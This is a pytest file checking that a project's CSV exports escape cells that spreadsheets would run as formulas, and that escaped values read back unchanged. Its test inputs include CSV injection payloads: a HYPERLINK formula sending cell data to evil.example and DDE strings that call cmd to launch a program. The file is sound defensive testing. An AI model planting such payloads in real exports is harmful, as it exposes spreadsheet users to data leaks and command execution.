"""CSV cells a spreadsheet would run as formulas are neutralised (OWASP's CSV injection rule),
in every CSV the project writes (--out x.csv and the dashboard's download), and our own
reader gives the values back."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dashboard.logic import export_csv
from extract.schema import conform
from extract.write import csv_safe, read_claims, write_claims

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def rows(claim_row, sentence: str) -> pd.DataFrame:
    return conform(
        pd.DataFrame([claim_row(claim_id="c1", sentence=sentence, indicator=sentence, value=-4.3)])
    )


def cells(data: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data, newline="")))


@pytest.mark.parametrize("attack", ATTACKS)
def test_write_csv_out_file_neutralises_formulas_and_reads_back(tmp_path, claim_row, attack):
    frame = rows(claim_row, attack)
    out = write_claims(frame, tmp_path / "claims.csv")
    row = cells(out.read_text(encoding="utf-8"))[0]
    for column in ("sentence", "indicator"):
        assert row[column][0] not in TRIGGERS and row[column].startswith("'")
    assert row["value"] == "-4.3"  # a number stays a number: spreadsheets never run it
    back = read_claims(out)
    assert back["sentence"].iloc[0] == attack and back["value"].iloc[0] == -4.3


@pytest.mark.parametrize("attack", ATTACKS)
def test_write_csv_dashboard_download_neutralises_formulas(claim_row, attack):
    row = cells(export_csv(rows(claim_row, attack)).decode("utf-8-sig"))[0]
    assert row["sentence"] == "'" + attack and row["value"] == "-4.3"


@settings(deadline=None)  # a busy machine is not a failure
@given(st.lists(st.text(max_size=12), min_size=1, max_size=5))
def test_write_csv_safe_round_trips_any_text(texts):
    frame = pd.DataFrame({"text": pd.Series(texts, dtype="string"), "n": range(len(texts))})
    safe = csv_safe(frame)
    assert not safe["text"].str[:1].isin(TRIGGERS).any()
    assert (safe["n"] == frame["n"]).all()
    assert safe["text"].map(lambda t: t[1:] if t.startswith("'") else t).tolist() == texts
